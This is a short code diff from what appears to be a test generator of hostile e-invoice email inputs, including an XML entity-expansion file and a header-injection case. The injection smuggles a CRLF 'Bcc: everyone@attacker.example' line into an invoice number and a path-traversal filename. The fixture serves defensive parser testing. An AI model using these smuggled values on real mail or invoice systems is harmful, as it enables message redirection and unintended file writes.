@@ -63,6 +63,7 @@ def hostile():
     yield "xml-entities", with_file("xml-entities", mime.file(laughing.encode(), "rechnung.xml", "application/xml"))
     injected = einvoice.ubl(replace(B03, number="SR-26-2207\r\nBcc: everyone@attacker.example")).replace("\r\n", "&#13;&#10;")
     part = mime.file(injected.encode(), "NAME", "application/xml").replace(
+        '\n name="NAME"', '\n name="rechnung.xml"').replace(
         'filename="NAME"', "filename*=UTF-8''..%2F..%2Frechnung.xml%0D%0ABcc%3A%20everyone%40attacker.example")
     yield "header-injection", with_file("header-injection", part)
     body = mime.text("Rechnung im Anhang, ganz unten.\n")
